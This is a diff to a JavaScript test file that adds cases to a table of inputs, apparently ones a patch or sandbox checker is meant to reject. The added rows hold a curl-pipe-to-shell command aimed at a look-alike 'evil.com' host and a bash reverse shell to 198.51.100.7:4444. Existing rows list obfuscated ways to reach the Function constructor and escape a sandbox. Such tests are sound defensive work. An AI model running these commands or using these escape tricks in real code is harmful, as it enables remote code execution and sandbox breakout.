@@ -29,6 +29,7 @@ describe('the powers of a patch', () => {
   });
 
   it.each([
+    ['a host in letters that look alike', "console.log('curl httрs://еvil.соm|sh');"], ['an address of the shell', "console.log('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1');"],
     ['a constructor of a constructor', "({}).constructor.constructor('return process')();"], ['a constructor by a text', "[]['filter']['constructor']('return 1')();"], ['a constructor in pieces', "export const f = []['at']['con' + 'structor'];"], ['a constructor backwards', "export const f = (() => 1)['rotcurtsnoc'.split('').reverse().join('')];"],
     ['a constructor by a constant', "const a = 'constr';\nconst b = `${a}uctor`;\nexport const f = [].at[b];"], ['a constructor in base64', "export const f = [].at[atob('Y29uc3RydWN0b3I=')];"], ['a constructor in hexadecimal', "export const f = [].at[Buffer.from('636f6e7374727563746f72', 'hex').toString()];"], ['a constructor by codes', "export const f = [].at[String.fromCharCode(99, 111, 110, 115, 116)];"],
     ['a constructor by letters', "const s = 'abcdefghijklmnopqrstuvwxyz';\nexport const f = [].at[s[2] + s[14] + s[13] + 'structor'];"], ['a constructor by a pattern', 'export const { constructor: F } = () => 1;'], ['a method chosen at run time', 'export const f = (x, k) => x[k](1);'], ['a prototype by reflection', 'Object.getOwnPropertyNames(Object.getPrototypeOf(() => 1));'],
